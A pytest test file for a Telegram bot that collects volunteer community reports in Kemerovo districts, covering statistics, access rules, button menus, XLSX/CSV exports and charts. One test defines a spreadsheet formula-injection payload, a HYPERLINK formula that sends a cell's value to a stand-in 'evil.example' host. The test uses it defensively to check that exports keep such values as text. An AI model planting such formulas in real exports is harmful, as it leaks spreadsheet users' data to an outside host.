from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from aiogram.methods import SendDocument, SendPhoto
from openpyxl import load_workbook

from bot.keyboards.callbacks import YearCb
from bot.services.stats import Period, change, parse_period
from bot.services.validation import InputError
from handlers.stats import ExportCb
from storage.models import Report, ReportStatus, User
from tests.fixtures.harness import Harness, buttons, joined
from tests.fixtures.updates import tg_user

STAFF = tg_user(2001, username="olga_staff")  # ЦРН «Оптимист», Центральный район
TODAY = date(2026, 11, 21)


def report(district_id: int, held_on: date, status=ReportStatus.ACCEPTED, **figures) -> Report:
    return Report(
        author_id=None,
        district_id=district_id,
        kind=figures.pop("kind", "subbotnik"),
        held_on=held_on,
        participants=figures.pop("participants", 10),
        description="…",
        status=status,
        **figures,
    )


async def seed(harness: Harness) -> tuple[int, int]:
    central = await harness.district_id("kem-central")
    rudnichny = await harness.district_id("kem-rudnichny")
    async with harness.session_factory() as s:
        s.add_all(
            [
                report(central, date(2025, 5, 3), participants=20, bags=12, trees=3),
                report(
                    central,
                    date(2025, 5, 20),
                    participants=15,
                    yards=1,
                    flowerbeds=2,
                    kind="action",
                ),
                report(rudnichny, date(2025, 6, 1), participants=30, seedlings=500),
                report(
                    rudnichny,
                    date(2025, 6, 2),
                    participants=99,
                    bags=99,
                    status=ReportStatus.RETURNED,
                ),
                report(central, date(2024, 5, 10), participants=5, bags=1),  # the year before
            ]
        )
        s.add(
            User(
                id=9001,
                consent_at=datetime(2025, 3, 1, tzinfo=UTC),
                district_id=central,
                full_name="Иванова Мария",
                phone="+79130000001",
            )
        )
        s.add(
            User(
                id=9002,
                consent_at=datetime(2025, 3, 1, tzinfo=UTC),
                district_id=rudnichny,
                full_name="Петров Пётр",
                phone="+79130000002",
            )
        )
        await s.commit()
    return central, rudnichny


def test_period_parsing():
    assert parse_period("week", TODAY) == Period(date(2026, 11, 15), TODAY)
    assert parse_period("2024", TODAY) == Period(date(2024, 1, 1), date(2024, 12, 31), "year")
    assert parse_period("2024-02", TODAY) == Period(date(2024, 2, 1), date(2024, 2, 29), "month")
    assert parse_period("2024-03", TODAY).previous() == Period(
        date(2024, 2, 1), date(2024, 2, 29), "month"
    )
    assert parse_period("2024-05-01..2024-08-31", TODAY).days == 123
    assert parse_period("2024", TODAY).previous() == Period(
        date(2023, 1, 1), date(2023, 12, 31), "year"
    )
    for bad in (
        "2027",
        "2024-13",
        "2024-08-31..2024-05-01",
        "вчера",
        "2024-02-30..2024-03-01",
        "1999",
    ):
        try:
            parse_period(bad, TODAY)
        except InputError:
            continue
        raise AssertionError(f"{bad} accepted")
    assert change(15, 10) == 50 and change(0, 0) is None and change(3, 0) is None


async def test_stats_figures_match_hand_totals(harness: Harness, admin):
    await seed(harness)
    sent = await harness.say(admin, "/stats 2025")
    text = joined(sent)
    assert "все районы, 01.01.2025–31.12.2025" in text
    assert "Принятых отчётов: 3 (+200%)" in text  # 3 against 1 in 2024
    assert "— субботников: 2" in text and "— акций: 1" in text
    assert "Участников: 65 (+1200%)" in text  # 20 + 15 + 30, the returned report is not counted
    assert "Мешков мусора: 12 (+1100%)" in text and "Высажено рассады: 500 (новое)" in text
    assert "Благоустроено дворов: 1" in text and "Разбито клумб: 2" in text
    photos = [r for r in sent if isinstance(r, SendPhoto)]
    assert photos and photos[0].photo.data.startswith(b"\x89PNG")  # type: ignore[union-attr]
    text = joined(await harness.say(admin, "/stats 2025 kem-rudnichny"))
    assert "Рудничный район" in text and "Принятых отчётов: 1" in text and "Участников: 30" in text
    # Without a code: the district is a button under the answer, for the same period.
    await harness.say(admin, "/stats 2025")
    text = joined(await harness.press(admin, "Кемерово, Рудничный район"))
    assert "Рудничный район, 01.01.2025–31.12.2025" in text and "Участников: 30" in text
    text = joined(await harness.press(admin, "все районы"))
    assert "Участников: 65" in text


async def test_admin_lists_elders_of_a_district_by_button(harness: Harness, admin):
    """Two towns with a «Центральный район» each: the buttons name the town too (two buttons
    read the same before), and each opens its own district's list."""
    from storage.models import District, Municipality

    async with harness.session_factory() as s:
        s.add(
            Municipality(
                code="nvkz", name="Новокузнецк", sort=50,
                districts=[District(code="nvkz-central", name="Центральный район")],
            )
        )  # fmt: skip
        await s.commit()
    await harness.reload_directory()
    await harness.register_elder(tg_user(3100, username="elder"))  # in Kemerovo's
    sent = await harness.say(admin, "/elders")
    assert "Старшие какого района?" in joined(sent)
    assert {"Кемерово, Центральный район", "Новокузнецк, Центральный район"} <= set(buttons(sent))
    assert "Центральный район" not in buttons(sent)
    sent = await harness.press(admin, "Новокузнецк, Центральный район")
    assert "Центральный район: старших и заявок пока нет" in joined(sent)
    await harness.say(admin, "/elders")
    sent = await harness.press(admin, "Кемерово, Центральный район")
    assert "ул. Весенняя" in joined(sent)
    await harness.say(admin, "/elders")
    sent = await harness.press(admin, "Кемерово, Кировский район")
    assert "Кировский район" in joined(sent)


async def test_stats_access_and_bad_input(harness: Harness, admin, resident):
    await seed(harness)
    await harness.say(admin, f"/grant {STAFF.id} staff optimist")
    text = joined(await harness.say(STAFF, "/stats 2025"))
    assert "Центральный район" in text and "Принятых отчётов: 2" in text
    assert "только своего района" in joined(await harness.say(STAFF, "/stats 2025 kem-rudnichny"))
    assert "Такой команды нет" in joined(await harness.say(resident, "/stats"))
    assert "Не понял период" in joined(await harness.say(admin, "/stats позавчера"))
    assert "не найден" in joined(await harness.say(admin, "/stats 2025 atlantis"))
    assert "Такой команды нет" in joined(await harness.say(STAFF, "/year 2025"))
    assert "Такой команды нет" in joined(await harness.say(STAFF, "/audit"))


async def test_the_period_and_the_export_are_chosen_by_buttons(harness: Harness, admin, resident):
    await seed(harness)
    await harness.onboard(resident)
    await harness.say(admin, f"/grant {STAFF.id} staff optimist")
    last = datetime.now(UTC).year - 1
    sent = await harness.say(STAFF, "/stats")  # a month, and the other periods as buttons
    assert "Центральный район" in joined(sent)
    assert {"За неделю", "За год", f"За {last} год"} <= set(buttons(sent))
    assert "За месяц" not in buttons(sent)
    text = joined(await harness.press(STAFF, f"За {last} год"))
    assert f"Центральный район, 01.01.{last}–31.12.{last}" in text
    assert "За месяц" in buttons(await harness.press(STAFF, "За неделю"))
    assert "За неделю" not in buttons(await harness.say(STAFF, "/stats неделя"))  # typed, shown

    sent = await harness.say(STAFF, "/export")  # what and which year, without typing words
    assert "Что выгрузить" in joined(sent)
    assert {f"Отчёты, {last}", f"Люди, {last + 1}", f"Заявки на конкурсы, {last}"} <= set(
        buttons(sent)
    )
    sent = await harness.press(STAFF, f"Люди, {last}")
    [doc] = [r for r in sent if isinstance(r, SendDocument)]
    assert doc.caption.startswith(f"Люди, 01.01.{last}")  # type: ignore[union-attr]
    typed = await harness.say(STAFF, f"/export люди {last}")
    [same] = [r for r in typed if isinstance(r, SendDocument)]
    assert doc.document.data == same.document.data  # type: ignore[union-attr]
    assert "устарела" in joined(await harness.tap(STAFF, ExportCb(what="secrets", year=last)))
    assert "устарела" in joined(await harness.tap(resident, ExportCb(what="users", year=last)))

    this = datetime.now(UTC).year  # /year alone: this year so far or the last, by a button
    sent = await harness.say(admin, "/year")
    assert "за какой год" in joined(sent) and not [r for r in sent if isinstance(r, SendDocument)]
    assert buttons(sent) == [f"{this} (по сегодня)", str(this - 1), "❌ Отмена"]
    sent = await harness.press(admin, f"{this} (по сегодня)")
    [doc] = [r for r in sent if isinstance(r, SendDocument)]
    assert doc.caption == f"Отчёт за {this} год"
    await harness.say(admin, "/year")
    sent = await harness.press(admin, str(this - 1))
    [doc] = [r for r in sent if isinstance(r, SendDocument)]
    assert doc.caption == f"Отчёт за {this - 1} год"
    # Only a city admin's tap makes it (a staff member's forged one is a stale button).
    await harness.say(admin, f"/grant {STAFF.id} staff optimist")
    forged = await harness.tap(STAFF, YearCb(of="report", year=this))
    assert "устарела" in joined(forged) and not [r for r in forged if isinstance(r, SendDocument)]
    assert "Как писать" in joined(await harness.say(admin, "/year 1999"))


async def test_year_xlsx_has_the_sums(harness: Harness, admin):
    await seed(harness)
    sent = await harness.say(admin, "/year 2025")
    [doc] = [r for r in sent if isinstance(r, SendDocument)]
    book = load_workbook(io.BytesIO(doc.document.data))  # type: ignore[union-attr]
    summary = {row[0]: row[1] for row in book["Итоги"].iter_rows(min_row=2, values_only=True)}
    assert summary["Принятых отчётов"] == 3 and summary["Участников"] == 65
    assert summary["Высажено рассады"] == 500
    districts = {
        row[0]: row[1] for row in book["По районам"].iter_rows(min_row=2, values_only=True)
    }
    assert (
        districts["Кемерово, Центральный район"] == 2
        and districts["Кемерово, Рудничный район"] == 1
    )
    assert len(list(book["Отчёты"].iter_rows(min_row=2))) == 3
    reports = book["Отчёты"]
    assert reports.freeze_panes == "A2"  # the header stays in place while scrolling
    kinds = {row[3] for row in reports.iter_rows(min_row=2, values_only=True)}
    assert kinds and kinds <= {"Субботник", "Акция", "Мероприятие", "Другое"}  # no codes
    assert book["Итоги"].column_dimensions["A"].width >= 20  # the labels are readable
    assert any(isinstance(r, SendPhoto) for r in sent)


async def test_export_csv_scope_and_audit(harness: Harness, admin):
    await seed(harness)
    await harness.say(admin, f"/grant {STAFF.id} staff optimist")
    sent = await harness.say(STAFF, "/export users 2025")
    [doc] = [r for r in sent if isinstance(r, SendDocument)]
    data = doc.document.data  # type: ignore[union-attr]
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    names = {r[3] for r in rows[1:]}
    assert "Иванова Мария" in names and "Петров Пётр" not in names  # another district's person
    assert rows[0] == ["Номер в Telegram", "Роль", "Район", "Имя", "Телефон", "Согласие дано"]
    mary = next(r for r in rows if r[3] == "Иванова Мария")
    assert (mary[1], mary[2], mary[5][:10]) == ("житель", "Центральный район", "01.03.2025"), mary
    sent = await harness.say(admin, "/export reports 2025")
    [doc] = [r for r in sent if isinstance(r, SendDocument)]
    rows = list(csv.reader(io.StringIO(doc.document.data.decode("utf-8-sig")), delimiter=";"))  # type: ignore[union-attr]
    assert len(rows) == 1 + 4  # accepted and returned reports of 2025
    assert rows[0][:6] == ["№", "Дата", "Район", "Вид", "Статус", "Участников"]
    assert {(r[1], r[2], r[3], r[4]) for r in rows[1:]} == {
        ("03.05.2025", "Центральный район", "Субботник", "принят"),
        ("20.05.2025", "Центральный район", "Акция", "принят"),
        ("01.06.2025", "Рудничный район", "Субботник", "принят"),
        ("02.06.2025", "Рудничный район", "Субботник", "возвращён на доработку"),
    }
    cells = {c for r in rows for c in r}
    assert not cells & {"accepted", "returned", "subbotnik", "action", "id", "district_id"}
    sent = await harness.say(admin, "/export отчёты 2025")  # the same, asked in Russian
    [doc] = [r for r in sent if isinstance(r, SendDocument)]
    assert doc.caption.startswith("Отчёты, ")  # type: ignore[union-attr]
    assert len(doc.document.data.decode("utf-8-sig").splitlines()) == 1 + 4  # type: ignore[union-attr]
    assert "Статистика" in joined(await harness.say(admin, "/stats неделя"))
    assert "Как писать" in joined(await harness.say(admin, "/export everything"))
    text = joined(await harness.say(admin, "/audit 5"))
    assert "выгрузка" in text and "роль выдана" in text and "стало: сотрудник центра" in text
    assert "что отчёты" in text and "reports" not in text
    assert "{" not in text and "role.grant" not in text  # words, not JSON and codes
    assert "центр ЦРН «Оптимист»" in text and "optimist" not in text
    sent = await harness.say(admin, "/audit 40")
    assert len(sent) >= 1 and all(len(m.text) <= 600 for m in sent)  # type: ignore[attr-defined]


EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")'


async def test_exports_keep_formulas_as_text(harness: Harness, admin):
    """A committee, a name or a street typed as a formula stays text in every export."""
    from storage.models import ElderRegistration, RegistrationStatus

    central, _ = await seed(harness)
    async with harness.session_factory() as s:
        s.add(User(id=9003, consent_at=datetime(2025, 3, 1, tzinfo=UTC), district_id=central))
        s.add(User(id=9004, consent_at=datetime(2025, 3, 1, tzinfo=UTC), full_name="@SUM(1+1)"))
        await s.flush()
        registration = ElderRegistration(
            user_id=9003,
            tos_role="elder",
            district_id=central,
            committee_other=EVIL,
            street="+7 улица",
            status=RegistrationStatus.CONFIRMED,
        )
        s.add(registration)
        await s.flush()
        hostile = report(central, date(2025, 7, 1), participants=4)
        hostile.registration_id = registration.id
        s.add(hostile)
        await s.commit()
    sent = await harness.say(admin, "/year 2025")
    [doc] = [r for r in sent if isinstance(r, SendDocument)]
    book = load_workbook(io.BytesIO(doc.document.data))  # type: ignore[union-attr]
    types = {c.value: c.data_type for c in book["По комитетам"]["A"]}
    assert types[EVIL] == "s"  # stored as text, never a formula
    assert not any(c.data_type == "f" for ws in book for row in ws.iter_rows() for c in row)
    sent = await harness.say(admin, "/export users 2025")
    [doc] = [r for r in sent if isinstance(r, SendDocument)]
    data = doc.document.data.decode("utf-8-sig")  # type: ignore[union-attr]
    cells = [c for row in csv.reader(io.StringIO(data), delimiter=";") for c in row]
    assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


async def test_the_report_marks_winter_figures_and_media_against_hand_totals(
    pg_or_sqlite_harness: Harness, admin
):
    """Youth events, «Лето» by direction, thematic projects (centers' events with their sign-ups
    and accepted reports together), snow towns apart from figures, entrances apart from windows,
    the old undivided figure, and media publications — in /stats (city and a district) and in
    the /year sheet, each against totals counted by hand."""
    from storage.models import Event, MediaPublication, Signup, SignupStatus

    harness = pg_or_sqlite_harness
    central = await harness.district_id("kem-central")
    rudnichny = await harness.district_id("kem-rudnichny")
    optimist = harness.directory.center_by_code("optimist")
    far_center = harness.directory.centers(rudnichny)[0]
    summer = datetime(2025, 7, 15, 10, tzinfo=UTC)
    async with harness.session_factory() as s:
        s.add_all(
            [
                # Central: a youth «Лето» sports event (40) and an eco субботник of «Лето» (12).
                report(
                    central, date(2025, 7, 5), kind="event", participants=40,
                    programme="leto", direction="sport", youth=True,
                ),
                report(
                    central, date(2025, 7, 10), participants=12,
                    programme="leto", direction="eco", project="eco",
                ),
                # Rudnichny: a youth winter event with towns, figures, entrances and windows.
                report(
                    rudnichny, date(2025, 12, 20), kind="event", participants=25, youth=True,
                    project="cozy", snow_towns=2, snow_figures=7, entrances=3, windows=11,
                ),
                report(central, date(2025, 1, 15), kind="action", decorated=4),  # before the split
                report(  # returned: not counted
                    central, date(2025, 7, 6), kind="event", programme="leto", youth=True,
                    status=ReportStatus.RETURNED,
                ),
            ]
        )  # fmt: skip
        sports_day = Event(
            center_id=optimist.id, title="Весёлые старты", starts_at=summer, minutes=60,
            capacity=30, programme="leto", direction="sport", youth=True,
        )  # fmt: skip
        picnic = Event(
            center_id=far_center.id, title="Пикник", starts_at=summer.replace(month=8),
            minutes=60, capacity=30, programme="leto",
        )  # fmt: skip
        s.add_all([sports_day, picnic])
        await s.flush()
        for who, status in (("а", "enrolled"), ("б", "enrolled"), ("в", "cancelled")):
            s.add(Signup(event_id=sports_day.id, who=who, status=SignupStatus(status)))
        s.add_all(
            [
                MediaPublication(district_id=district, url="", outlet="Газета", published_on=day)
                for district, day in (
                    (central, date(2025, 3, 1)),
                    (rudnichny, date(2025, 11, 11)),
                    (central, date(2024, 12, 31)),  # the year before
                )
            ]
        )
        await s.commit()

    city = joined(await harness.say(admin, "/stats 2025"))
    for line in (
        "Молодёжных мероприятий (центров и ТОС): 3",  # two reports and the sports day
        "Мероприятий программы «Лето»: 4",  # two reports and two events
        "Участников программы «Лето»: 54",  # 40 + 12 + two signed up + none
        "«Лето», спортивное направление: мероприятий: 2",
        "«Лето», спортивное направление: участников: 42",
        "«Лето», экологическое направление: мероприятий: 1",
        "Проект «Экологичный Кемерово»: мероприятий и дел: 1",
        "Проект «Уютный Кемерово»: мероприятий и дел: 1",
        "Снежных городков: 2",
        "Снежных фигур: 7",
        "Украшено подъездов: 3",
        "Украшено окон и балконов: 11",
        "Украшено подъездов, окон, балконов (старые отчёты, не разделено): 4",
        "Публикаций в СМИ: 2",
    ):
        assert line in city, line
    assert "творческое направление" not in city  # an empty part of a whole is not shown
    district = joined(await harness.say(admin, "/stats 2025 Центральный"))
    assert "Молодёжных мероприятий (центров и ТОС): 2" in district
    assert "Участников программы «Лето»: 54" in district
    assert "Публикаций в СМИ: 1" in district and "Снежных городков: 0" in district

    sent = await harness.say(admin, "/year 2025")
    [doc] = [r for r in sent if isinstance(r, SendDocument)]
    book = load_workbook(io.BytesIO(doc.document.data))  # type: ignore[union-attr]
    rows = [row[:2] for row in book["Итоги"].iter_rows(min_row=2, values_only=True)]
    summary = dict(rows)
    assert summary["Молодёжных мероприятий (центров и ТОС)"] == 3
    assert summary["«Лето», спортивное направление: участников"] == 42
    assert summary["«Лето», творческое направление: мероприятий"] == 0  # every line in the sheet
    assert summary["Публикаций в СМИ"] == 2 and summary["Снежных городков"] == 2
    labels = [label for label, _ in rows]
    # The order of the city's annual report: events, «Лето», projects, actions, winter, media.
    assert (
        labels.index("Мероприятий центров")
        < labels.index("Мероприятий программы «Лето»")
        < labels.index("Проект «Уютный Кемерово»: мероприятий и дел")
        < labels.index("Принятых отчётов")
        < labels.index("Снежных городков")
        < labels.index("Украшено окон и балконов")
        < labels.index("Публикаций в СМИ")
    )
    marks = {row[-1] for row in book["Отчёты"].iter_rows(min_row=2, values_only=True)}
    assert "Лето (спортивное), молодёжное" in marks


def test_the_chart_names_months_starts_from_zero_and_marks_a_partial_month():
    from bot.charts import stats_figure

    period = Period(date(2026, 1, 1), date(2026, 11, 27), "year")  # November still going on
    months = period.months()
    assert len(months) == 11 and months[0] == ("2026-01", False) and months[-1] == ("2026-11", True)
    assert Period(date(2026, 5, 3), date(2026, 6, 30)).months() == [
        ("2026-05", True),
        ("2026-06", False),
    ]
    rows = [(m, 5, 100 + n, partial) for n, (m, partial) in enumerate(months)]
    labels = {
        "reports": "Отчёты",
        "participants": "Участники",
        "by_district": "Отчёты по районам",
        "months": "янв фев мар апр май июн июл авг сен окт ноя дек",
        "partial": "* месяц учтён не целиком",
    }
    figure = stats_figure("2026", rows, [("Центральный", 3)], labels)
    top, _districts, twin = figure.axes
    shown = [t.get_text() for t in top.get_xticklabels()]
    assert shown[0] == "янв 2026" and shown[-1] == "ноя 2026*"
    # Both axes from zero although the participants are 100–110 (no exaggerated growth).
    assert top.get_ylim()[0] == 0 and twin.get_ylim()[0] == 0
    legend = [t.get_text() for t in top.get_legend().get_texts()]  # type: ignore[union-attr]
    assert legend == ["Отчёты", "Участники", "* месяц учтён не целиком"]
    whole = stats_figure("2025", rows[:-1], [], labels)
    assert len(whole.axes[0].get_legend().get_texts()) == 2  # type: ignore[union-attr]  # no partial month, no such note
